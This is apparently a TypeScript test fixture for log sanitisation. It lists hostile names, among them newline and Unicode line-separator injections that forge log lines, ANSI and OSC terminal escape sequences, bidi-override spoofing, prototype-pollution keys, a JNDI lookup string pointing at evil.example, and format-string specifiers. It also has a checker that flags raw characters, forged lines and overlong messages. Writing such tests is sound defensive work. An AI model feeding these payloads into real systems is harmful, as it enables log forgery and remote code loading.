/** The word that a forged line begins with. */
const forged = "FORGED"

/** Names as an end user, a definitions document or a server can choose them. */
export const hostileNames: ReadonlyArray<string> = [
  `a\n${forged} line`,
  `a\r\n${forged} line`,
  `a\r${forged} line`,
  `a\u2028${forged} line`,
  `a\u2029${forged} line`,
  `a\u0085${forged} line`,
  "a\u001b[2J\u001b[31mred",
  "a\u001b]0;title\u0007",
  "a\u001b]8;;http://evil.example\u001b\\link",
  "a\u009b31mred",
  "a\u202egnp.exe",
  "a\u2066hidden\u2069",
  "a\u200b\ufeffb",
  "a\u0000b",
  "a\b\b\b\bb",
  "a\ud800b",
  "\u{e0041}tag",
  "__proto__",
  "constructor",
  "toString",
  "${jndi:ldap://evil.example/a}",
  "%s%d%n",
  "\"},{\"level\":\"FORGED",
  "k".repeat(1_000_000),
  "\n".repeat(10_000)
]

// A line of our own may list things below each other, indented.
const raw = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u

/** Longer than any message has to be. */
const longestMessage = 20_000

/** What is wrong with a message that was logged, if anything is. */
export const problemOf = (message: string): string | undefined =>
  raw.test(message)
    ? `a raw character in ${JSON.stringify(message.slice(0, 120))}`
    : new RegExp(`^${forged}`, "m").test(message)
    ? `a forged line in ${JSON.stringify(message.slice(0, 120))}`
    : /\n(?! )/.test(message)
    ? `a line of its own in ${JSON.stringify(message.slice(0, 120))}`
    : message.length > longestMessage
    ? `${message.length} characters: ${message.slice(0, 60)}`
    : undefined
